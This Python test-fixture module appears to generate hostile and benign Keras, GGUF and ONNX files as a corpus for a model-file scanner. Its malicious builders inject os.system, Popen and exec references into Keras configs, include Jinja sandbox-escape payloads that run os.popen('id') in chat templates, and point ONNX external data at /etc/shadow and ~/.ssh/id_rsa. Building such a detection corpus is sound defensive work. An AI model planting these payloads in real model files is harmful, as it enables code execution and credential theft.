"""Hostile and benign files of the 2026 format bypass classes (issue #11), made in memory.

Keras models are saved by real Keras (torch backend) and then edited the way the published
advisories edit them; GGUF files are written by the real `gguf` writer, ONNX models by `onnx`.
A library that is not installed only makes its files absent. Cases that need a folder (ONNX
external data, symlinks) live in the tests with `tmp_path`.
"""

from __future__ import annotations

import functools
import importlib.util
import io
import json
import os
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")


def have(module: str) -> bool:
    return importlib.util.find_spec(module) is not None


def have_keras() -> bool:
    """Keras and the backend it is told to use (torch here): without one it cannot save."""
    return have("keras") and have(os.environ["KERAS_BACKEND"])


# --- Keras -----------------------------------------------------------------------------------


def fn_ref(module: str, name: str) -> dict[str, Any]:
    """A function reference as Keras 3 serialises one."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": None}


@functools.lru_cache(maxsize=1)
def keras_models() -> dict[str, bytes]:
    """Real models saved by Keras: a Functional model with a nested Sequential, compiled, as
    `.keras` and `.h5`, a plain Sequential `.keras`, and a bytecode Lambda in both formats."""
    import keras

    inner = keras.Sequential([keras.Input((3,)), keras.layers.Dense(2)], name="inner")
    inp = keras.Input((4,))
    out = inner(keras.layers.Dense(3, activation="relu")(inp))
    functional = keras.Model(inp, out)
    functional.compile(optimizer="adam", loss=keras.losses.MeanSquaredError(), metrics=["mae"])
    sequential = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1, activation="tanh")])
    lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2)])
    out_files: dict[str, bytes] = {}
    with tempfile.TemporaryDirectory() as tmp:
        saves: list[tuple[str, Callable[[str], None]]] = [
            ("functional.keras", functional.save),
            ("functional.h5", functional.save),
            ("sequential.keras", sequential.save),
            ("lambda.h5", lam.save),
            ("lambda.keras", lam.save),
        ]
        for name, save in saves:
            path = str(Path(tmp) / name)
            save(path)
            out_files[name] = Path(path).read_bytes()
    return out_files


def edit_keras(data: bytes, edit: Callable[[dict[str, Any]], None]) -> bytes:
    """Rewrite config.json of a real .keras archive, keeping every other member."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "config.json":
                config = json.loads(content)
                edit(config)
                content = json.dumps(config).encode()
            dst.writestr(info.filename, content)
    return buf.getvalue()


def _layers(config: dict[str, Any]) -> list[dict[str, Any]]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return layers


def _nested(config: dict[str, Any]) -> dict[str, Any]:
    """The nested Sequential of the functional model."""
    return next(layer for layer in _layers(config) if layer["class_name"] == "Sequential")


def lambda_layer(function: dict[str, Any], arguments: dict[str, Any] | None = None) -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "payload", "function": function, "arguments": arguments or {}},
        "registered_name": None,
        "build_config": {"input_shape": [None, 3]},
    }


def keras_malicious() -> dict[str, bytes]:
    if not have_keras():
        return {}
    models = keras_models()
    functional = models["functional.keras"]

    def nested_lambda(fn: dict[str, Any], **arguments: Any) -> Callable[[dict[str, Any]], None]:
        def edit(config: dict[str, Any]) -> None:
            _layers(_nested(config)).append(lambda_layer(fn, arguments))

        return edit

    def compile_loss(config: dict[str, Any]) -> None:
        config["compile_config"]["loss"] = fn_ref("subprocess", "Popen")

    def build_config(config: dict[str, Any]) -> None:
        _layers(config)[1]["build_config"]["hook"] = fn_ref("builtins", "exec")

    def tfsm(config: dict[str, Any]) -> None:
        _layers(_nested(config)).append(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "config": {"name": "sm", "filepath": "/tmp/attacker_savedmodel"},
                "registered_name": None,
            }
        )

    def shared(config: dict[str, Any]) -> None:
        dense = _layers(_nested(config))[-1]["config"]
        dense["kernel_initializer"] = {**fn_ref("os", "system"), "shared_object_id": 1}

    return {
        # CVE-2025-9906: Keras's own load_model called with safe_mode off, inside a nested model
        "keras_nested_load_model.keras": edit_keras(
            functional, nested_lambda(fn_ref("keras.models", "load_model"), safe_mode=False)
        ),
        # CVE-2025-8747: keras.utils.get_file downloads to any path
        "keras_get_file_download.keras": edit_keras(
            functional, nested_lambda(fn_ref("keras.utils", "get_file"), origin="http://x/y")
        ),
        "keras_safe_mode_switch.keras": edit_keras(
            functional,
            nested_lambda(fn_ref("keras.src.saving.serialization_lib", "set_global_attribute")),
        ),
        "keras_nested_os_system.keras": edit_keras(
            functional, nested_lambda(fn_ref("os", "system"))
        ),
        "keras_compile_config_popen.keras": edit_keras(functional, compile_loss),
        "keras_build_config_exec.keras": edit_keras(functional, build_config),
        "keras_tfsmlayer.keras": edit_keras(functional, tfsm),
        "keras_shared_object_os_system.keras": edit_keras(functional, shared),
        "keras_lambda_bytecode.h5": models["lambda.h5"],  # CVE-2025-9905: .h5 skips safe_mode
        "keras_lambda_bytecode.keras": models["lambda.keras"],
    }


def keras_benign() -> dict[str, bytes]:
    if not have_keras():
        return {}
    models = keras_models()
    return {
        "keras_functional.keras": models["functional.keras"],
        "keras_sequential.keras": models["sequential.keras"],
        "keras_functional.h5": models["functional.h5"],
    }


# --- GGUF and chat templates -----------------------------------------------------------------

# Real templates in the shape their models ship them (Llama 3, Qwen2, Mistral), and payloads
# from the published template-injection writeups.
LLAMA3_TEMPLATE = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}"
    "{% endif %}"
)
QWEN2_TEMPLATE = (
    "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- if messages[0]['role'] == 'system' %}"
    "{{- messages[0]['content'] }}{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}"
    "{{- '\\n\\n# Tools\\n\\n<tools>' }}{%- for tool in tools %}{{- '\\n' }}{{- tool | tojson }}"
    "{%- endfor %}{{- '\\n</tools><|im_end|>\\n' }}{%- endif %}"
    "{%- for message in messages %}{%- if message.role == 'assistant' and message.tool_calls %}"
    "{{- '<|im_start|>' + message.role }}{%- for tool_call in message.tool_calls %}"
    "{%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}"
    '{{- \'\\n<tool_call>\\n{"name": "\' }}{{- tool_call.name }}{{- \'", "arguments": \' }}'
    "{{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}{%- endfor %}"
    "{{- '<|im_end|>\\n' }}{%- else %}"
    "{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}"
    "{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}"
    "{%- endif %}"
)
MISTRAL_TEMPLATE = (
    "{%- set ns = namespace(system=none) %}{{- bos_token }}"
    "{%- for message in messages %}"
    "{%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{- raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"
    "{%- endif %}{%- if message['role'] == 'user' %}"
    "{{- '[INST] ' + message['content'] + ' [/INST]' }}"
    "{%- elif message['role'] == 'assistant' %}{{- message['content'] + eos_token }}"
    "{%- else %}{{- raise_exception('Only user and assistant roles are supported!') }}"
    "{%- endif %}{%- endfor %}{% generation %}{% endgeneration %}"
)
# More real templates: Llama 3.1 with tools, DeepSeek-R1, Gemma.
LLAMA31_TOOLS_TEMPLATE = (
    "{{- bos_token }}\n{%- if custom_tools is defined %}{%- set tools = custom_tools %"
    "}{%- endif %}\n{%- if not tools_in_user_message is defined %}{%- set tools_in_use"
    "r_message = true %}{%- endif %}\n{%- if not date_string is defined %}{%- if strft"
    'ime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}{%- else %'
    '}{%- set date_string = "26 Jul 2024" %}{%- endif %}{%- endif %}\n{%- if messages['
    "0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
    '{%- set messages = messages[1:] %}{%- else %}{%- set system_message = "" %}{%- e'
    'ndif %}\n{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}\n{%- if builtin_t'
    'ools is defined or tools is not none %}{{- "Environment: ipython\\n" }}{%- endif '
    '%}\n{%- if builtin_tools is defined %}{{- "Tools: " + builtin_tools | reject(\'equ'
    'alto\', \'code_interpreter\') | join(", ") + "\\n\\n"}}{%- endif %}\n{%- for t in tool'
    's %}{{- t | tojson(indent=4) }}{{- "\\n\\n" }}{%- endfor %}\n{%- for message in mes'
    "sages %}\n    {%- if not (message.role == 'ipython' or message.role == 'tool' or "
    "'tool_calls' in message) %}\n        {{- '<|start_header_id|>' + message['role'] "
    "+ '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}\n    {%- e"
    "lif 'tool_calls' in message %}\n        {%- if not message.tool_calls|length == 1"
    ' %}{{- raise_exception("This model only supports single tool-calls at once!") }}'
    "{%- endif %}\n        {%- set tool_call = message.tool_calls[0].function %}\n     "
    "   {%- if builtin_tools is defined and tool_call.name in builtin_tools %}\n      "
    '      {{- "<|python_tag|>" + tool_call.name + ".call(" }}\n            {%- for ar'
    "g_name, arg_val in tool_call.arguments | items %}{{- arg_name + '=\"' + arg_val +"
    ' \'"\' }}{%- if not loop.last %}{{- ", " }}{%- endif %}{%- endfor %}\n        {%- e'
    "lse %}{{- '{\"name\": \"' + tool_call.name + '\", ' }}{{- '\"parameters\": ' }}{{- too"
    'l_call.arguments | tojson }}{{- "}" }}{%- endif %}\n    {%- endif %}\n{%- endfor %'
    "}\n{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_i"
    "d|>\\n\\n' }}{%- endif %}"
)
DEEPSEEK_R1_TEMPLATE = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = fals"
    "e %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_fi"
    "rst=true, system_prompt='', is_first_sp=true) %}{%- for message in messages %}{%"
    "- if message['role'] == 'system' %}{%- if ns.is_first_sp %}{% set ns.system_prom"
    "pt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}{%-"
    " else %}{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content']"
    " %}{%- endif %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%-"
    " for message in messages %}{%- if message['role'] == 'assistant' and message['co"
    "ntent'] is not none %}{% set content = message['content'] %}{% if '</think>' in "
    "content %}{% set content = content.split('</think>')[-1] %}{% endif %}{{'<｜Assis"
    "tant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endfor %}"
)
GEMMA_TEMPLATE = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('Syste"
    "m role not supported') }}{% endif %}{% for message in messages %}{% if (message["
    "'role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation "
    "roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if (mes"
    "sage['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = m"
    "essage['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['conten"
    "t'] | trim + '<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<s"
    "tart_of_turn>model\\n'}}{% endif %}"
)
HOSTILE_TEMPLATES = {
    # CVE-2024-34359's published payload: walk to object, list its subclasses
    "subclasses": "{% for c in ().__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os')"
    ".popen('id').read() }}{% endif %}{% endfor %}",
    "lipsum_globals": "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "cycler_init_globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "attr_concat": "{{ messages|attr('__cla' ~ 'ss__')|attr('__mr' ~ 'o__') }}",
    "subscript_dunder": "{{ messages['__class__']['__base__'] }}",
    "set_folded": "{% set a = '__glo' %}{% set b = a ~ 'bals__' %}"
    "{{ joiner|attr('__init__')|attr(b) }}",
    "request_application": "{{ request.application.__self__._get_data_for_json }}",
}


def gguf_file(metadata: dict[str, Any], *, templates: dict[str, str] | None = None) -> bytes:
    """A small GGUF written by the real gguf writer: metadata, one tensor, chat templates."""
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "m.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_name("tiny")
        writer.add_context_length(128)
        for key, value in metadata.items():
            writer.add_string(key, value)
        for name, text in (templates or {}).items():
            if name == "default":
                writer.add_chat_template(text)
            else:
                writer.add_chat_template([{"name": name, "template": text}])
        writer.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return path.read_bytes()


def gguf_header(version: int, tensors: int, kvs: int, body: bytes = b"") -> bytes:
    """Byte-exact GGUF header (spec: magic, u32 version, u64 tensor count, u64 KV count)."""
    import struct

    return b"GGUF" + struct.pack("<IQQ", version, tensors, kvs) + body


def gguf_string(text: str, declared: int | None = None) -> bytes:
    import struct

    raw = text.encode()
    return struct.pack("<Q", len(raw) if declared is None else declared) + raw


def gguf_malicious() -> dict[str, bytes]:
    files = {
        "gguf_malformed_kv_count.gguf": gguf_header(3, 0, 2**60),
        "gguf_malformed_string_length.gguf": gguf_header(
            3, 0, 1, gguf_string("general.name", declared=2**40)
        ),
    }
    if have("gguf"):
        for name, text in HOSTILE_TEMPLATES.items():
            files[f"gguf_template_{name}.gguf"] = gguf_file({}, templates={"default": text})
        files["gguf_named_template_tool_use.gguf"] = gguf_file(
            {}, templates={"tool_use": HOSTILE_TEMPLATES["lipsum_globals"]}
        )
    return files


def gguf_benign() -> dict[str, bytes]:
    if not have("gguf"):
        return {}
    return {
        "gguf_llama3_template.gguf": gguf_file(
            {"general.license": "llama3"}, templates={"default": LLAMA3_TEMPLATE}
        ),
        "gguf_qwen2_template.gguf": gguf_file({}, templates={"default": QWEN2_TEMPLATE}),
        "gguf_llama31_tools_template.gguf": gguf_file(
            {}, templates={"default": LLAMA31_TOOLS_TEMPLATE, "r1": DEEPSEEK_R1_TEMPLATE}
        ),
        "gguf_mistral_template.gguf": gguf_file(
            {}, templates={"default": MISTRAL_TEMPLATE, "tool_use": QWEN2_TEMPLATE}
        ),
    }


# --- ONNX ------------------------------------------------------------------------------------


def onnx_model(*, subgraph: bool = False, domain: str | None = None) -> Any:
    """A real model: MatMul with a 64x64 initializer (big enough to go external), optionally
    inside an If subgraph, optionally with a node of another domain."""
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((64, 64), dtype=np.float32), name="W")
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 64])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 64])
    opsets = [helper.make_opsetid("", 17)]
    if subgraph:
        branch = helper.make_graph(
            [helper.make_node("MatMul", ["X", "W"], ["Y"])], "then", [], [y], [weight]
        )
        cond = numpy_helper.from_array(np.array(True), name="C")
        node = helper.make_node("If", ["C"], ["Y"], then_branch=branch, else_branch=branch)
        graph = helper.make_graph([node], "g", [x], [y], [cond])
    else:
        nodes = [helper.make_node("MatMul", ["X", "W"], ["Y"])]
        if domain is not None:
            nodes.append(helper.make_node("Detect", ["Y"], ["Z"], domain=domain))
            opsets.append(helper.make_opsetid(domain, 1))
        graph = helper.make_graph(nodes, "g", [x], [y], [weight])
    return helper.make_model(graph, opset_imports=opsets)


def onnx_bytes(model: Any, *, location: str | None = None) -> bytes:
    """The .onnx bytes; with `location`, saved with external data by onnx and then pointed at
    `location` the way a hostile file is made."""
    import onnx

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.onnx"
        if location is None:
            onnx.save(model, str(path))
            return path.read_bytes()
        onnx.save(model, str(path), save_as_external_data=True, location="model.onnx_data")
        saved = onnx.load(str(path), load_external_data=False)
        for tensor in onnx.external_data_helper._get_all_tensors(saved):
            for entry in tensor.external_data:
                if entry.key == "location":
                    entry.value = location
        return saved.SerializeToString()


def onnx_malicious() -> dict[str, bytes]:
    if not have("onnx"):
        return {}
    plain, nested = onnx_model(), onnx_model(subgraph=True)
    return {
        "onnx_external_traversal.onnx": onnx_bytes(plain, location="../../../etc/passwd"),
        "onnx_external_nested_traversal.onnx": onnx_bytes(plain, location="sub/../../secret"),
        "onnx_external_absolute.onnx": onnx_bytes(plain, location="/etc/shadow"),
        "onnx_external_drive_letter.onnx": onnx_bytes(plain, location="C:\\Windows\\win.ini"),
        "onnx_external_in_subgraph.onnx": onnx_bytes(nested, location="../../.ssh/id_rsa"),
    }


def onnx_benign() -> dict[str, bytes]:
    if not have("onnx"):
        return {}
    return {
        "onnx_small.onnx": onnx_bytes(onnx_model()),
        "onnx_if_subgraph.onnx": onnx_bytes(onnx_model(subgraph=True)),
    }


# --- the corpora -----------------------------------------------------------------------------


def malicious_files() -> dict[str, bytes]:
    """name -> bytes; each file is one published bypass class."""
    return {**keras_malicious(), **gguf_malicious(), **onnx_malicious()}


def benign_files() -> dict[str, bytes]:
    return {**keras_benign(), **gguf_benign(), **onnx_benign()}
